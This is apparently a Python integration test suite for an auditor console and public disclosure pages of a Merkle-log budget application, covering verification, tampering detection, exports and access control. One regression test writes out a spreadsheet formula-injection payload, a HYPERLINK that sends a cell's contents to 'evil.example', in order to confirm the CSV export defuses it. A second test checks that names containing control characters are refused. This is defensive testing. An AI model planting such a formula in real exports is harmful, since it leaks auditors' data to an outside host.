"""The auditor view (checkpoint, verification by the independent verifier, entries, exports)
and the public disclosure pages, rendered server-side on both databases."""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import Iterator

import httpx

from quan.domain.merkle import leaf_hash
from quan.web.i18n import Translator
from quan.web.routes.auditor import verifier_http
from tests.conftest import World
from tests.integration.console_fixtures import staff_session, submit
from tests.integration.issuance_fixtures import funded_program, open_fcfs_batch
from tests.integration.transparency_fixtures import AppendOnlyLifter, sequence, tamper


def _verify_in_process(world: World) -> None:
    """The verifier reads the public endpoints through the test client instead of a socket."""

    def client() -> Iterator[httpx.Client]:
        yield world.client

    world.client.app.dependency_overrides[verifier_http] = client  # type: ignore[attr-defined]


def test_before_the_first_checkpoint_the_auditor_is_told_so(world: World) -> None:
    staff_session(world, "auditor")
    page = world.client.get("/auditor")
    assert page.status_code == 200
    assert "日志尚未签发第一个检查点" in page.text


def test_the_auditor_verifies_the_log_and_the_next_run_proves_consistency(world: World) -> None:
    funded_program(world)
    sequence(world.runtime)
    _verify_in_process(world)
    staff_session(world, "auditor")
    page = world.client.get("/auditor")
    assert 'data-test="checkpoint"' in page.text
    first = submit(world, "/auditor/verify", page="/auditor", **{"HX-Request": "true"})
    assert 'data-test="verification-ok"' in first.text, first.text
    assert "已记住日志公钥" in first.text
    funded_program(world)
    sequence(world.runtime)
    second = submit(world, "/auditor/verify", page="/auditor", **{"HX-Request": "true"})
    assert 'data-test="verification-ok"' in second.text
    assert "一致性证明通过" in second.text
    assert "上次核验通过" in world.client.get("/auditor").text


def test_a_rewritten_event_turns_the_verification_red(world: World) -> None:
    funded_program(world)
    sequence(world.runtime)
    _verify_in_process(world)
    staff_session(world, "auditor")
    lifted = AppendOnlyLifter(world.runtime.db)
    lifted("events")
    try:
        tamper(world.runtime.db, "UPDATE events SET payload = :p WHERE id = "
               "(SELECT MIN(id) FROM events)", p='{"amount_fen":1}')
        failed = submit(world, "/auditor/verify", page="/auditor", **{"HX-Request": "true"})
    finally:
        lifted.restore()
    assert 'data-test="verification-failed"' in failed.text
    assert "entries_mismatch" in failed.text


def test_entries_and_exports_are_the_exact_leaves_of_the_log(world: World) -> None:
    pid = funded_program(world)
    sequence(world.runtime)
    staff_session(world, "auditor")
    size = int(world.client.get("/api/v1/audit/checkpoint").text.splitlines()[1])
    entries = world.client.get("/auditor/entries")
    assert entries.status_code == 200
    assert "contribution.recorded" in entries.text
    assert "记录出资" in entries.text
    exported = world.client.get("/auditor/export/log-entries.jsonl")
    lines = exported.content.splitlines()
    assert len(lines) == size
    served = world.client.get("/api/v1/audit/entries", params={"start": 0, "end": size - 1})
    for line, entry in zip(lines, served.json(), strict=True):
        assert leaf_hash(line) == leaf_hash(base64.b64decode(entry["data"]))
        json.loads(line)
    checkpoint = world.client.get("/auditor/export/checkpoint.txt")
    assert checkpoint.text == world.client.get("/api/v1/audit/checkpoint").text
    budgets = world.client.get("/auditor/export/budgets.csv")
    rows = list(csv.DictReader(io.StringIO(budgets.text.lstrip("\ufeff"))))
    mine = next(r for r in rows if r["program_id"] == pid)
    assert mine["funded_fen"] == "1000000"
    assert mine["identity_holds"] == "true"


def test_exports_are_for_auditors_and_admins_only(world: World) -> None:
    funded_program(world)
    sequence(world.runtime)
    staff_session(world, "operator")
    assert world.client.get("/auditor/export/log-entries.jsonl").status_code == 403
    world.client.cookies.clear()
    assert world.client.get("/auditor/export/budgets.csv",
                            follow_redirects=False).status_code == 303


def test_the_disclosure_page_is_public_and_shows_the_ledger_and_batches(world: World) -> None:
    pid, _ = open_fcfs_batch(world, quantity=4)
    sequence(world.runtime)
    world.client.cookies.clear()
    index = world.client.get("/disclosure")
    assert pid in index.text
    page = world.client.get(f"/disclosure/{pid}")
    assert page.status_code == 200
    assert "¥10,000.00" in page.text  # funded
    assert "¥120.00" in page.text  # 4 × ¥30 reserved
    assert "餐饮满100减30" in page.text
    # Rule changes are named in words (the page shows no event codes to the public).
    zh = Translator("zh")
    assert zh("event.batch.created") in page.text or zh("event.program.created") in page.text
    english = world.client.get(f"/disclosure/{pid}?lang=en")
    assert "Where the money is" in english.text
    assert world.client.get("/disclosure/prg_nothing").status_code == 404


def test_a_formula_in_a_program_name_reaches_the_budgets_export_as_text(world: World) -> None:
    """P1: ``=HYPERLINK(…)`` arrived in the auditor's spreadsheet as a live formula."""
    formula = '=HYPERLINK("http://evil.example/?d="&A2,"点此")'
    pid = world.program(name=formula)["id"]
    staff_session(world, "auditor")
    budgets = world.client.get("/auditor/export/budgets.csv")
    rows = list(csv.DictReader(io.StringIO(budgets.text.lstrip("\ufeff"))))
    mine = next(r for r in rows if r["program_id"] == pid)
    assert mine["name"] == "'" + formula


def test_names_with_control_characters_are_refused_at_every_entry(world: World) -> None:
    for path, body in (
        ("/programs", {"name": "春季\t=1+1", "timezone": "Asia/Shanghai",
                       "starts_at": "2026-11-25T00:00:00+08:00",
                       "ends_at": "2027-03-01T00:00:00+08:00"}),
        ("/funders", {"name": "财政\r\n局", "kind": "department"}),
    ):
        response = world.post("operator", path, body)
        assert response.status_code == 422, (path, response.text)
        assert response.json()["code"] == "INVALID_TEXT_NAME"
